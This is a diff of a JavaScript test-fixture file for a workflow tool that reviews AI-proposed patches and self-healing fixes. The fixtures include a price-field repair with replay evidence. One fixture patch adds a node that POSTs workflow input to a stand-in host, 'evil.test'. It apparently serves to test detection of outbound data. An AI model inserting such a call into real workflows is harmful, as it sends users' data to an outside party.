@@ -55,11 +55,27 @@ export function proposal(workflow, hash, more) {
 
 /** Adds, changes and removes, in four parts. */
 export const alertsPatch = [
-  { edit: "addNode", node: { id: "large", type: "flow.if", name: "Over 100?", params: { condition: "{{ input > 100 }}" } } },
+  {
+    edit: "addNode",
+    node: { id: "large", type: "flow.if", name: "Over 100?", params: { condition: "{{ input > 100 }}" } },
+  },
   { edit: "connect", edge: { source: "total", target: "large" } },
-  { edit: "addNode", node: { id: "alert", type: "http.request", name: "Post alert", params: { method: "POST", url: "https://evil.test/alerts", body: "{{ input }}" } } },
+  {
+    edit: "addNode",
+    node: {
+      id: "alert",
+      type: "http.request",
+      name: "Post alert",
+      params: { method: "POST", url: "https://evil.test/alerts", body: "{{ input }}" },
+    },
+  },
   { edit: "connect", edge: { source: "large", sourcePort: "true", target: "alert" } },
-  { edit: "setParam", node: "total", pointer: "/code", value: "let sum = 0;\nfor order in input.body {\n  sum += order.total;\n}\nsum" },
+  {
+    edit: "setParam",
+    node: "total",
+    pointer: "/code",
+    value: "let sum = 0;\nfor order in input.body {\n  sum += order.total;\n}\nsum",
+  },
   { edit: "removeNode", node: "old" },
 ];
 
@@ -84,5 +100,105 @@ export const alerts = (hash) =>
   });
 
 export const RECEIPTS = [
-  { prompt: "edit@1f0c33d2", model: "large/careful", usage: { promptTokens: 3120, completionTokens: 240, costUsd: 0.0042 }, read: [] },
+  {
+    prompt: "edit@1f0c33d2",
+    model: "large/careful",
+    usage: { promptTokens: 3120, completionTokens: 240, costUsd: 0.0042 },
+    read: [],
+  },
 ];
+
+/** Fails on an order without a price. */
+export const PRICES = {
+  id: "prices",
+  name: "Prices",
+  graph: {
+    nodes: [
+      { id: "start", type: "trigger.manual", position: { x: 0, y: 96 } },
+      {
+        id: "price",
+        type: "code.rhai",
+        name: "Price",
+        params: { code: 'if input.price == () { throw "no price"; }\ninput.price' },
+        position: { x: 288, y: 96 },
+      },
+      { id: "tell", type: "log", params: { message: "{{ input }}" }, position: { x: 576, y: 96 } },
+    ],
+    edges: [
+      { source: "start", target: "price" },
+      { source: "price", target: "tell" },
+    ],
+  },
+};
+
+const code = (text) => [{ edit: "setParam", node: "price", pointer: "/code", value: text }];
+const part = (title) => [{ id: 0, title, edits: [0], needs: [] }];
+
+/** A proven fix, one that needs a live try, and what was tried. */
+export function healed(run, frame, hash) {
+  const fix = proposal("prices", hash, {
+    title: "Read `cost` where `price` was",
+    reason: "The input has a field `cost` of the same type where `price` was until now.",
+    origin: { kind: "rule", name: "renamed-field" },
+    patch: code("input.cost"),
+    parts: part("Change the code of Price"),
+    mends: [run, frame],
+    summary: { lines: ["changes the code of price"], code: ["price"] },
+    evidence: {
+      fixes: { did: 1, of: 1 },
+      keeps: { did: 40, of: 40 },
+      downstream: { did: 39, of: 41 },
+      changes: [
+        { run, frame, nodeId: "price", recorded: '{"a":1,"b":2}', replayed: '{"a":1,"b":3}' },
+        { run, frame: frame + 1, nodeId: "tell", recorded: "5", replayed: "6" },
+      ],
+      wouldSend: [],
+      tookMs: 84,
+    },
+  });
+  const live = proposal("prices", hash, {
+    title: "Ask the shop for the price",
+    reason: "",
+    patch: code("input.cost ?? 0"),
+    parts: part("Ask the shop"),
+    mends: [run, frame],
+    summary: { lines: ["changes the code of price"], newHosts: ["shop.example.com"] },
+    evidence: {
+      fixes: { did: 0, of: 1 },
+      keeps: { did: 40, of: 40 },
+      downstream: { did: 0, of: 0 },
+      changes: [],
+      wouldSend: [
+        {
+          nodeId: "price",
+          path: [],
+          attempt: 1,
+          kind: "http",
+          request: { method: "GET", url: "https://shop.example.com/price" },
+          recorded: false,
+        },
+      ],
+      tookMs: 20,
+    },
+  });
+  return {
+    run,
+    frame,
+    nodeId: "price",
+    diagnosis: {
+      kind: "missing-field",
+      sentence: "The node Price reads `price`, and the input has no such field any more.",
+      evidence: [
+        "The input of this frame has the fields: cost, id.",
+        "In 40 good frames the field was `price`, a number.",
+      ],
+      policy: false,
+    },
+    fixes: [fix],
+    needsLiveTry: [live],
+    tried: [{ title: "Pass over the node", why: "the output of 40 of 40 good frames changes" }],
+    alike: { group: "g1", count: 3, runs: ["r1", "r2", "r3"] },
+    exhausted: false,
+    tookMs: 143,
+  };
+}
